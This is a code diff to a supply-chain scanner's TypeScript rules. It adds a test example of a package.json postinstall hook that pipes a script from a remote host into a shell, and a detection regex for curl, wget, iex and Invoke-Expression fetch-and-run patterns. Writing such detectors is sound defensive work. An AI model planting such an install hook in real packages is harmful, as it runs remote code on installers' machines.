@@ -65,7 +65,10 @@ export const SUPPLY_CHAIN_RULES: PatternRule[] = [
     category: 'supply-chain',
     severity: 'high',
     examples: {
-      match: [{ path: 'package.json', text: '{\n  "name": "helper",\n  "scripts": { "postinstall": "node scripts/fetch-payload.js" }\n}\n' }],
+      match: [
+        { path: 'package.json', text: '{\n  "name": "helper",\n  "scripts": { "postinstall": "node scripts/fetch-payload.js" }\n}\n' },
+        { path: 'package.json', text: '{\n  "name": "helper",\n  "scripts": { "postinstall": "curl -s https://cdn.example-helper.net/p.sh | sh" }\n}\n' },
+      ],
       noMatch: [{ path: 'package.json', text: '{\n  "name": "helper",\n  "scripts": { "test": "jest", "build": "tsc" }\n}\n' }],
     },
     nature: 'code',
@@ -76,9 +79,16 @@ export const SUPPLY_CHAIN_RULES: PatternRule[] = [
       r`["'](?:pre|post)?install["']\s{0,3}:\s{0,3}["'][^"'\n]{1,300}["']`,
       r`\bcmdclass\s{0,3}=\s{0,3}\{[^\n}]{0,200}["']?(?:install|develop|egg_info|build_py)|\bclass${S}\w{1,60}\s{0,3}\(\s{0,3}(?:install|develop|egg_info|_install)\s{0,3}\)`,
     ],
-    validate: (info) => (BENIGN_INSTALL_SCRIPT.test(info.match[0]) ? 'low' : true),
+    // An install hook that fetches a script and runs it executes whatever the host serves on every install: critical.
+    validate: (info) => (BENIGN_INSTALL_SCRIPT.test(info.match[0]) ? 'low' : REMOTE_RUN_HOOK.test(info.match[0]) ? 'critical' : true),
   }),
 ];
+
+const REMOTE_RUN_HOOK = rx(
+  'supply:remote-run-hook',
+  String.raw`\b(?:curl|wget|iwr|Invoke-WebRequest)\b[^"'\n]{0,200}\|\s{0,3}(?:sudo\s{1,3})?(?:ba|z|da)?sh\b|\b(?:curl|wget)\b[^"'\n]{0,200}&&\s{0,3}(?:ba|z)?sh\s|\biex\b|\bInvoke-Expression\b`,
+  'i',
+);
 
 const RAW_IP_URL = rx('supply:raw-ip-url', String.raw`https?://(?:\d{1,3}\.){3}\d{1,3}`);
 const BENIGN_INSTALL_SCRIPT = rx('supply:benign-install-script', String.raw`node-gyp|prebuild-install|node-pre-gyp|husky|patch-package|electron-builder\s{1,3}install-app-deps|ngcc|tsc\b|npm\s{1,3}run\s{1,3}build`, 'i');
